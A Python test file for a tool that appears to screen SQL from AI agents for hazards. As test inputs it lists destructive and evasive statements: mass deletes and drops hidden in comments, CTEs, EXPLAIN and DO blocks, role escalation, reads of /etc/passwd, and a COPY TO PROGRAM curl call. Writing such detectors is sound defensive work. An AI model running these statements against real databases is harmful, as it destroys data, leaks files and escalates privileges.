"""Every danger that people and peers have told of has a hazard, in the forms it is hidden in.

The first part are the patterns of an article on agents and databases that this project began with;
the second those that walked past other gates: comments, common table expressions, second
statements, functions, EXPLAIN, DO blocks, settings.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from holdpoint.impact.hazards import IMPACT_HAZARDS, findings_of
from holdpoint.model.effects import Effect
from holdpoint.sql import read

PAGES = Path(__file__).parents[3] / "docs" / "hazards"

TOLD = [
    ("DELETE FROM users", "HP2102"),
    ("UPDATE users SET active = false", "HP2101"),
    ("TRUNCATE TABLE users", "HP3104"),
    ("DROP TABLE users", "HP3101"),
    ("ALTER TABLE users DROP COLUMN email", "HP3102"),
    ("DROP INDEX users_email", "HP3103"),
    ("ALTER TABLE users ADD COLUMN plan text NOT NULL", "HP3201"),
    ("CREATE INDEX ON users (email)", "HP3202"),
    ("ALTER TABLE users RENAME COLUMN email TO mail", "HP3206"),
    ("GRANT DELETE ON users TO agent", "HP4101"),
    ("ALTER ROLE agent SUPERUSER", "HP4101"),
]
# Dangers that need more than a text: a figure, a clock, a catalog. Their pages say the same.
TOLD_OF_MORE = {
    "UPDATE affecting more than N rows": "HP2204",
    "ALTER TABLE on tables with more than N rows": "HP3303",
    "any DDL in production during business hours": "HP3301",
    "whether the table is shared with another service": "HP2206",
    "that table has a trigger that fires webhooks": "HP2203",
    "it may not know it's referenced somewhere": "HP3107",
    "will lock the table during backfill": "HP3205",
}
HIDDEN = [
    ("/* a */ DELETE/**/FROM users", "HP2102"),
    ("-- harmless\nDELETE FROM users", "HP2102"),
    ("SELECT 1; DELETE FROM users", "HP2102"),
    ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "HP2102"),
    ("WITH a AS (SELECT 1) DELETE FROM users", "HP2102"),
    ("EXPLAIN ANALYZE DELETE FROM users", "HP2102"),
    ("EXPLAIN (ANALYZE, COSTS off) DELETE FROM users", "HP2102"),
    ("PREPARE p AS DELETE FROM users; EXECUTE p", "HP2102"),
    ("COPY (DELETE FROM users RETURNING *) TO STDOUT", "HP2102"),
    ("DO $$ BEGIN DELETE FROM users; END $$", "HP2102"),
    ("DO $$ BEGIN EXECUTE 'DELETE FROM ' || 'users'; END $$", "HP5109"),
    ("DELETE FROM users WHERE true OR id = 1", "HP2103"),
    ("DELETE FROM users WHERE id = id OR id IS NULL", "HP2103"),
    ("UPDATE users SET a = 1 WHERE EXISTS (SELECT 1)", "HP2103"),
    ("CALL anything()", "HP5109"),
    ("SELECT pg_read_file('/etc/passwd')", "HP5102"),
    ("SELECT (SELECT count(pg_read_file(name)) FROM files)", "HP5102"),
    ("SELECT * FROM users ORDER BY pg_terminate_backend(id)", "HP5107"),
    ("SELECT * FROM dblink('', 'DELETE FROM users') AS t (a int)", "HP5106"),
    ("SELECT lo_export(1, '/tmp/x')", "HP5102"),
    ("COPY users TO PROGRAM 'curl http://example.com'", "HP5101"),
    ("COPY users FROM '/etc/passwd'", "HP5102"),
    ("SELECT query_to_xml('DELETE FROM users', true, true, '')", "HP1003"),
    ("SELECT set_config('transaction_read_only', 'off', false)", "HP4201"),
    ("SET default_transaction_read_only = 'off'", "HP4201"),
    ("BEGIN READ WRITE", "HP4201"),
    ("SET SESSION AUTHORIZATION postgres", "HP4102"),
    ("SET ROLE postgres", "HP4102"),
    ("SET search_path = evil, pg_catalog", "HP4202"),
    ("SELECT users.pg_sleep FROM users", "HP6101"),
    ("SELECT pg_sleep(1e9)", "HP6101"),
    ("SELECT * FROM a, b, c", "HP6103"),
    ("LOCK TABLE users", "HP6102"),
]


@pytest.mark.parametrize(("text", "code"), [*TOLD, *HIDDEN], ids=lambda value: str(value)[:60])
def test_a_danger_is_named_in_whatever_form_it_comes(text: str, code: str) -> None:
    reading = read(text)
    assert code in {finding.code for finding in findings_of(reading)}
    assert reading.effects - {Effect.READ}


@pytest.mark.parametrize("code", TOLD_OF_MORE.values(), ids=TOLD_OF_MORE)
def test_a_danger_that_needs_more_than_a_text_has_its_page(code: str) -> None:
    assert (PAGES / f"{code}.md").is_file()


def test_dangers_of_figures_are_made_somewhere() -> None:
    made = {hazard.CODE for hazard in IMPACT_HAZARDS}
    assert {"HP2206", "HP3107", "HP3205"} <= made


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 'DELETE FROM users'",
        "SELECT 1 AS delete",
        "SELECT $$ DROP TABLE users $$",
        "SELECT * FROM users -- ; DROP TABLE users",
        "EXPLAIN DELETE FROM users WHERE id = 1",
        "RESET ALL",
        "DISCARD ALL",
        "SHOW search_path",
        "SELECT truncate FROM settings WHERE id = 1",
    ],
)
def test_words_that_only_look_dangerous_are_not(text: str) -> None:
    assert findings_of(read(text)) == ()
